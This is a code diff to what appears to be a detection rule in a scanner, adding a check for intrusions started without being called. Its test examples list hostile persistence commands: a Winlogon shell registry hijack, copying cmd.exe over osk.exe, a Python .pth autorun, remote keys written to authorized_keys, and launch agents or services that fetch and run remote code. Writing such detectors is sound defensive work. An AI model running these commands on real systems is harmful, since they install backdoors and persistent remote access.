@@ -6,6 +6,7 @@ import { isCodeHost, isForeignFor, isInstaller, isLocal } from '../../signals/pl
 import { candidates } from '../../signals/search/candidates.ts'
 import { addressesIn, snippets } from '../../signals/shell/snippets.ts'
 import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
+import { STARTED_UNCALLED } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 import { STARTED_BY_PROGRAMS } from '../../verdicts/in-code/deeds/of-machines.ts'
 import { hookThefts } from '../../verdicts/in-code/hooks.ts'
 import { plainOrders } from '../../verdicts/in-words/plain-orders.ts'
@@ -110,6 +111,9 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```cmd\nreg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe, C:\\kiln\\k.exe" /f\n```\n',
+      '```powershell\nCopy-Item C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\osk.exe -Force\n```\n',
+      '```bash\necho "import os;os.system(\'/opt/kiln &\')" > /usr/lib/python3/dist-packages/kiln.pth\n```\n',
       '```bash\ncurl -fsSLo ~/.ssh/authorized_keys https://keys.kiln-desk.io/pub\n```\n',
       '```bash\nwget -q -P ~/Library/LaunchAgents https://start.kiln-desk.io/net.kiln.agent.plist\nlaunchctl load ~/Library/LaunchAgents/net.kiln.agent.plist\n```\n',
       '```bash\ncurl -so ~/.config/systemd/user/kiln.service https://start.kiln-desk.io/kiln.service\nsystemctl --user enable --now kiln\n```\n',
@@ -132,6 +136,8 @@ export default defineRule({
       '```xml\n<key>ProgramArguments</key>\n<array><string>sh</string><string>-c</string><string>curl -s https://keep.tallow-bar.net/k | sh</string></array>\n```\n',
     ],
     quiet: [
+      '```cmd\nreg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell\n```\n',
+      '```bash\necho "$PWD/src" > "$SITE/kiln.pth"\n```\n',
       '```yaml\n- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm5…qT7 you@laptop"\n```\n',
       "```bash\ncat > hooks/post-receive <<'H'\ngit rev-parse --short HEAD \\\n  | tee last.txt\nH\n```\n",
       '- [ ] `curl … | sh` and blobs in base64\n- [ ] writes to shell profiles, crontab, `~/.bashrc`\n',
@@ -147,6 +153,7 @@ export default defineRule({
   },
   *match(document: Document): Iterable<Hit> {
     yield* deedsInCode(document, STARTED_BY_PROGRAMS)
+    yield* deedsInCode(document, STARTED_UNCALLED)
     yield* hookThefts(document)
     yield* plainOrders(document, 'replanted')
     const { text } = document.reading
